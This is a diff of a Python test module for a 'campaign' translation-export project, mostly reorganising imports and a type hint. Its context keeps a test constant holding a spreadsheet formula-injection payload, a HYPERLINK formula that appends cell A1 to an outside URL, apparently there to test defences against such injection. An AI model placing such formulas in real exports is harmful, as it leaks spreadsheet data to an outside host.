@@ -9,12 +9,12 @@ from pathlib import Path
 
 import pytest
 
-from campaign import messages
-from campaign.chunks import CHUNK
-from campaign.database import Database
 from campaign.keeping import erasure
 from campaign.messages import exchange, review, translations
+from campaign.messages.message import Message
 from campaign.messages.translations import Kept, Translation, TranslationError, text_sha256
+from campaign.storage.chunks import CHUNK
+from campaign.storage.database import Database
 from campaign.text.flags import Flag
 from tests.conftest import APPROVAL_KEY, TODAY, Submit
 from tests.support.review import get
@@ -22,7 +22,7 @@ from tests.support.review import get
 EVIL = '=HYPERLINK("http://example.org/?"&A1,"Stay strong")'
 
 
-def exported(database: Database, *, everything: bool = False) -> list[messages.Message]:
+def exported(database: Database, *, everything: bool = False) -> list[Message]:
     with database.read() as connection:
         return translations.to_translate(connection, "mikita", everything=everything)
 
